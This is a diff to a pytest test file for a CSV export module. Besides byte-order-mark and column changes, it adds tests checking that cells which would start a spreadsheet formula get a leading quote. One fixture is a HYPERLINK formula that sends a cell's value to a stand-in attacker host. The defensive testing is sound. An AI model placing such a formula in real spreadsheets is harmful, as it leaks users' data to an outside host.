@@ -20,6 +20,10 @@ def export(records):
     return b"".join(csv_format.write(records))
 
 
+def rows_of(data):
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
 class TestRead:
     def test_golden_file_reads_as_expected(self):
         assert_golden_records("import.csv.records.json", csv_format.read(golden_bytes("import.csv")))
@@ -49,6 +53,10 @@ class TestRead:
     def test_an_id_column_is_ignored(self):
         [record] = csv_format.read(b"id,text\n41,hello\n")
         assert record["text"] == "hello"
+
+    def test_a_byte_order_mark_before_the_header_is_dropped(self):
+        [record] = csv_format.read("\ufefftext,title\nhello,Héllo\n".encode())
+        assert (record["text"], record["title"]) == ("hello", "Héllo")
 
     def test_a_long_article_fits_in_one_cell(self):
         text = "word " * 100_000
@@ -115,21 +123,58 @@ class TestWrite:
         assert_golden("export.csv", export(export_records()))
 
     def test_one_row_per_span_with_the_spec_columns(self):
-        rows = list(csv.DictReader(io.StringIO(export(export_records()).decode(), newline="")))
+        rows = rows_of(export(export_records()))
         assert list(rows[0]) == [
-            "document_id", "external_id", "annotator", "label", "start", "end", "text", "review_status", "note"
-        ]
+            "document_id", "external_id", "title", "source", "annotator", "label", "start", "end", "text",
+            "review_status", "note",
+        ]  # fmt: skip
         assert len(rows) == sum(len(record["spans"]) for record in export_records())
+        assert (rows[0]["title"], rows[0]["source"]) == ("Harbour council delays the ferry vote", "The Quayside Ledger")
+
+    def test_the_file_starts_with_a_byte_order_mark_so_spreadsheets_read_utf8(self):
+        data = export(export_records())
+        assert data.startswith(b"\xef\xbb\xbfdocument_id,")
+        assert data.count(b"\xef\xbb\xbf") == 1
 
     def test_cells_slice_the_document_text_exactly(self):
         by_id = {str(record["id"]): record["text"] for record in export_records()}
-        for row in csv.DictReader(io.StringIO(export(export_records()).decode(), newline="")):
+        for row in rows_of(export(export_records())):
             assert by_id[row["document_id"]][int(row["start"]) : int(row["end"])] == row["text"]
 
     def test_the_gold_layer_has_an_empty_annotator_and_notes_keep_their_line_breaks(self):
-        rows = list(csv.DictReader(io.StringIO(export(export_records()).decode(), newline="")))
+        rows = rows_of(export(export_records()))
         assert rows[5]["note"] == "line one\nline two"
         assert rows[7]["annotator"] == "" and rows[7]["label"] == "Diplomatic claim"
 
     def test_no_records_is_the_header_alone(self):
-        assert export([]) == b"document_id,external_id,annotator,label,start,end,text,review_status,note\r\n"
+        assert export([]) == (
+            b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,label,start,end,text,review_status,note\r\n"
+        )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def guarded_record(value):
+    """A record in which every text cell of the one span's row is `value` (the span's text too)."""
+    text = f"{value} rest"
+    return {
+        "id": 3, "external_id": value, "title": value, "source": value, "text": text,
+        "spans": [{"start": 0, "end": len(value), "label": value, "annotator": value, "note": value,
+                   "review_status": "pending"}],
+    }  # fmt: skip
+
+
+class TestFormulaGuard:
+    TEXT_COLUMNS = ("external_id", "title", "source", "annotator", "label", "text", "note")
+
+    @pytest.mark.parametrize("value", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"], ids=repr)
+    def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(self, value):
+        [row] = rows_of(export([guarded_record(value)]))
+        assert {name: row[name] for name in self.TEXT_COLUMNS} == dict.fromkeys(self.TEXT_COLUMNS, f"'{value}")
+        assert (row["document_id"], row["start"], row["review_status"]) == ("3", "0", "pending")
+
+    @pytest.mark.parametrize("value", ["Peskov", " =1+1", "1-2", "a=b", "'quoted", "«=»"], ids=repr)
+    def test_other_cells_go_out_as_they_are(self, value):
+        [row] = rows_of(export([guarded_record(value)]))
+        assert {name: row[name] for name in self.TEXT_COLUMNS} == dict.fromkeys(self.TEXT_COLUMNS, value)
